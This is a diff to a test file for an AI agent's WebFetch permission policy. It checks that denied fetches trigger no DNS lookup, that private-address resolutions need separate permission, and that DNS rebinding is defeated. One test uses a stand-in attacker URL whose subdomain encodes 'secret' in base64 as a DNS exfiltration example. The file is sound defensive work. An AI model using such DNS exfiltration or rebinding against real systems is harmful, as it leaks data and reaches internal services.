@@ -89,28 +89,57 @@ describe('a pinned lookup', () => {
   });
 });
 
-describe('DNS rebinding', () => {
-  it('fetches from the address the permission check saw, however DNS answers later', async () => {
+describe('WebFetch and DNS', () => {
+  const policy = (rules: string) =>
+    createPermissionPolicy({
+      mode: 'default',
+      allow: parseRuleList(rules, '--allowed-tools'),
+    });
+  const fetchAs = (rules: string, url: string) =>
+    callThroughPolicy(webFetchTool, { url }, policy(rules), testToolContext());
+
+  it('asks DNS nothing for a fetch that is not allowed: a looked-up name can carry data out', async () => {
+    dnsLookup.mockClear();
+    const result = await fetchAs('', 'http://c2VjcmV0.attacker.test/');
+    expect(outputText(result)).toMatch(
+      /WebFetch\(domain:c2vjcmv0\.attacker\.test\) was not granted/,
+    );
+    expect(dnsLookup).not.toHaveBeenCalled();
+  });
+
+  it('asks again under private: when an allowed name resolves to a private address', async () => {
+    const server = await startServer((_req, res) => res.end('internal page'));
+    const url = `http://intranet.test:${server.port}/`;
+    dnsLookup.mockResolvedValue([{ address: '127.0.0.1', family: 4 }]);
+    const denied = await fetchAs('WebFetch(domain:intranet.test)', url);
+    expect(outputText(denied)).toBe(
+      'intranet.test resolves to the private address 127.0.0.1. Permission to use WebFetch(private:intranet.test) was not granted. To allow it, rerun with --allowed-tools "WebFetch(private:intranet.test)", or --permission-mode bypassPermissions.',
+    );
+    expect(server.requests).toEqual([]);
+    const allowed = await fetchAs(
+      'WebFetch(domain:intranet.test),WebFetch(private:intranet.test)',
+      url,
+    );
+    expect(outputText(allowed)).toContain('internal page');
+    dnsLookup.mockReset();
+  });
+
+  it('fetches from the addresses it checked, however DNS answers later (rebinding)', async () => {
     const checked = await startServer((_req, res) => res.end('the checked server'), '127.0.0.1');
     const other = await startServer((_req, res) => res.end('the other server'), '127.0.0.2');
-    expect(other.port).not.toBe(0);
-    // The first answer is what the check sees; any later lookup would point elsewhere.
+    // The first answer is the one checked; any later lookup would point elsewhere.
     dnsLookup.mockReset();
     dnsLookup.mockResolvedValueOnce([{ address: '127.0.0.1', family: 4 }]);
     dnsLookup.mockResolvedValue([{ address: '127.0.0.2', family: 4 }]);
-    const policy = createPermissionPolicy({
-      mode: 'default',
-      allow: parseRuleList('WebFetch(private:rebind.test)', '--allowed-tools'),
-    });
-    const result = await callThroughPolicy(
-      webFetchTool,
-      { url: `http://rebind.test:${checked.port}/` },
-      policy,
-      testToolContext(),
+    const server = (path: string) => `http://rebind.test:${checked.port}${path}`;
+    const result = await fetchAs(
+      'WebFetch(domain:rebind.test),WebFetch(private:rebind.test)',
+      server('/'),
     );
     expect(outputText(result)).toContain('the checked server');
     expect(dnsLookup).toHaveBeenCalledTimes(1);
     expect(checked.requests).toEqual([{ path: '/', host: `rebind.test:${checked.port}` }]);
     expect(other.requests).toEqual([]);
+    dnsLookup.mockReset();
   });
 });
